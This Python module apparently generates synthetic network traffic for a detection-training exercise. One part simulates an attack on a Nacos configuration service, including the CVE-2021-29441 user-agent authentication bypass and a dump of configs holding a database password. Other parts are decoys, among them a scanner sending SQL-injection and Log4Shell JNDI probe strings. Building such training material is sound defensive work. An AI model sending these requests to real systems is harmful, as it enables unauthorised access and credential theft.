"""A second campaign that has nothing to do with the first, and what only looks bad."""

import daily
import protocols
import windows
from exercise_01 import ADMIN, CONFIG, DESK, HOST, LINUX, OFFICE, PORTAL, QUEUE, RED_2, SCANNER, T, page_talk
from packets import SECOND, Talk

PORTS = (
    "21 22 23 25 80 110 135 139 443 445 1433 3306 3389 5432 6379 7001 8080 8443 8848 9200 27017 1521 5900 "
    "5985 2375 111 389 873 1099 2049 11211"
)


def second_campaign(site):
    """Somebody else reads the passwords of the cloud's configuration service."""
    site.campaign("C2", "Passwords of the configuration service")
    start = T("01:12:05.500")
    talk = page_talk(site, start, 36010, RED_2, site.cloud, CONFIG, 8848)
    for path in ("/", "/nacos/", "/nacos/v1/console/server/state", "/actuator/health"):
        status, body = (
            ("200 OK", '{"version":"1.4.0","standalone_mode":"standalone"}')
            if "nacos" in path
            else ("404 Not Found", "")
        )
        talk.ask(
            protocols.request(
                "GET", path, "10.31.8.40:8848", agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"
            ),
            800_000,
        )
        talk.answer(protocols.response(status, body, "application/json"))
    talk.close()
    site.did(
        start,
        talk.now,
        "T1595.002",
        "reconnaissance",
        RED_2,
        CONFIG,
        "version of the configuration service asked for",
        [9000005],
    )
    start = T("01:13:20.840")
    talk = page_talk(site, start, 36022, RED_2, site.cloud, CONFIG, 8848)
    talk.ask(
        protocols.request(
            "GET", "/nacos/v1/auth/users?pageNo=1&pageSize=9", "10.31.8.40:8848", agent="Nacos-Server"
        )
    )
    users = '{"totalCount":1,"pageNumber":1,"pagesAvailable":1,"pageItems":[{"username":"nacos","password":"$2a$10$EuWPZHzz32dJN7jexM34MOeYirDdFAZm2kuWj7VEOJhhZkDrxfvUu"}]}'
    talk.answer(protocols.response(body=users, kind="application/json;charset=UTF-8")).close()
    site.did(
        start,
        talk.now,
        "T1190",
        "initial-access",
        RED_2,
        CONFIG,
        "accounts drawn with the servers' own user agent (CVE-2021-29441)",
        [9000818, 9000819],
    )
    start = T("01:14:41.330")
    talk = page_talk(site, start, 36031, RED_2, site.cloud, CONFIG, 8848)
    talk.ask(
        protocols.request(
            "GET",
            "/nacos/v1/cs/configs?dataId=&group=&pageNo=1&pageSize=99&search=accurate",
            "10.31.8.40:8848",
            agent="Nacos-Server",
        )
    )
    configs = (
        '{"totalCount":2,"pageItems":[{"dataId":"office-prod.yml","group":"DEFAULT_GROUP","content":"spring:\\n  datasource:\\n    url: jdbc:mysql://10.31.8.61:3306/office'
        '\\n    username: office\\n    password: Of#2024-prod\\n"},{"dataId":"gateway.yml","group":"DEFAULT_GROUP","content":"routes: []"}]}'
    )
    talk.answer(protocols.response(body=configs, kind="application/json;charset=UTF-8")).close()
    site.did(
        start,
        talk.now,
        "T1552.001",
        "credential-access",
        RED_2,
        CONFIG,
        "configurations with database passwords handed out",
        [9000822],
    )


def own_scanner(site):
    """The centre's vulnerability scanner."""
    start = now = T("01:18:00.100")
    for port in map(int, PORTS.split()):
        talk = Talk(site.cloud, now, SCANNER, 52000, OFFICE, port, 700, ("scanner", "linux"))
        talk = talk.refused()
        now += 120_000
    talk = Talk(site.cloud, now, SCANNER, 52010, OFFICE, 8080, 1500, LINUX).open()
    for path in (
        "/.git/config",
        "/seeyon/",
        "/admin/",
        "/index.jsp?id=1%20union%20select%201,2,3%20from%20users",
        "/?x=$%7Bjndi:ldap://10.31.250.9/a%7D",
    ):
        talk.ask(
            protocols.request("GET", path, "10.31.8.50:8080", agent="Mozilla/5.00 (Nikto/2.5.0)"), 700_000
        ).answer(protocols.response("404 Not Found", "none"))
    talk.close()
    site.looks_bad(
        start,
        SCANNER,
        OFFICE,
        "the centre's own vulnerability scanner at its weekly work",
        [9000003, 9000005, 9000009, 9000201, 9000211],
    )


def search_engine(site):
    """Pages that are no more."""
    start = T("01:07:15")
    talk = Talk(site.portal, start, "192.0.2.66", 40400, PORTAL, 80, 30000, LINUX).open()
    for number in range(12):
        talk.ask(
            protocols.request(
                "GET",
                f"/art/2019/{number + 1}/art_{4000 + 7 * number}.html",
                HOST,
                agent="Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/)",
            ),
            2 * SECOND,
        )
        talk.answer(protocols.response("404 Not Found", "<h1>Gone</h1>"))
    talk.close()
    site.looks_bad(start, "192.0.2.66", PORTAL, "a search engine asks for pages that are no more")


def administrators(site):
    """Mistyped passwords, and an update through an administrative share."""
    start = T("01:21:10.600")
    talk = Talk(site.cloud, start, ADMIN, 51020, OFFICE, 8080, 1500).open()
    for password, status in (
        ("b2ZmaWNlOkF1dHVtMjAyNQ==", "401 Unauthorized"),
        ("b2ZmaWNlOmF1dHVtbjIwMjY=", "401 Unauthorized"),
        ("b2ZmaWNlOkF1dHVtbi0yMDI2", "200 OK"),
    ):
        talk.ask(
            protocols.request(
                "GET", "/console/", "10.31.8.50:8080", [("Authorization", f"Basic {password}")]
            ),
            6 * SECOND,
        )
        talk.answer(
            protocols.response(
                status,
                daily.page(password, 3),
                headers=[("WWW-Authenticate", 'Basic realm="office"')] if status[0] == "4" else [],
            )
        )
    talk.close()
    site.looks_bad(start, ADMIN, OFFICE, "an administrator mistypes the password twice")
    start = T("01:30:05.200")
    windows.SMBTalk(site.hall, start, ADMIN, 51300, DESK, "XZ-WS31").negotiate().log_in("ops-admin").connect(
        "\\\\10.32.10.31\\ADMIN$"
    ).open("Temp\\patch.msu").close()
    site.looks_bad(
        start,
        ADMIN,
        DESK,
        "an administrator puts an update on a terminal through its administrative share",
        [9000601],
    )
    start = T("01:26:20.400")
    protocols.ssh(Talk(site.hall, start, ADMIN, 51400, QUEUE, 22, 2600), "mistyped", packets=2)
    protocols.ssh(Talk(site.hall, start + 9 * SECOND, ADMIN, 51401, QUEUE, 22, 2600), "typed", accepted=True)
    site.looks_bad(start, ADMIN, QUEUE, "an administrator mistypes an SSH password once")


def play(site):
    """All of it."""
    for part in (second_campaign, own_scanner, administrators, search_engine):
        part(site)
